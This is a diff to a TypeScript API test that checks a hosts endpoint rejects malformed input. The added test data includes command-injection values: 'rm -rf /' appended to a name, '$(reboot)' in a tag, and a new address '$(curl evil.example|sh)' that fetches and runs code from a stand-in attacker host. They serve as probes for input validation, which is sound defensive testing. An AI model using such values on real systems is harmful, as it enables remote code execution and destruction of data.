@@ -37,10 +37,10 @@ describe.each(DIALECTS)('hosts API ($name)', (dialect) => {
   });
 
   it('refuses bad fields with 400 naming each, a taken name with 409, and a credential that is missing or not ssh_key', async () => {
-    const bad = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'bad name; rm -rf /', address: 'n05.prod.example.com', port: 70000, tags: ['$(reboot)'], ssh_credential_id: 'fleet-key', colour: 'red' } });
+    const bad = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'bad name; rm -rf /', address: '$(curl evil.example|sh)', port: 70000, tags: ['$(reboot)'], ssh_credential_id: 'fleet-key', colour: 'red' } });
     expect(bad.status).toBe(400);
     expect(bad.headers.get('content-type')).toContain('application/problem+json');
-    expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual(expect.arrayContaining(['/name', '/port', '/tags/0']));
+    expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual(expect.arrayContaining(['/name', '/address', '/port', '/tags/0']));
     const taken = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'db-1', address: 'n09.prod.example.com', ssh_credential_id: 'fleet-key' } });
     expect(taken.status).toBe(409);
     const wrongType = await s.call('POST', '/automation/hosts', { as: 'operator', body: { name: 'app-1', address: 'n31.prod.example.com', ssh_credential_id: 'chat' } });
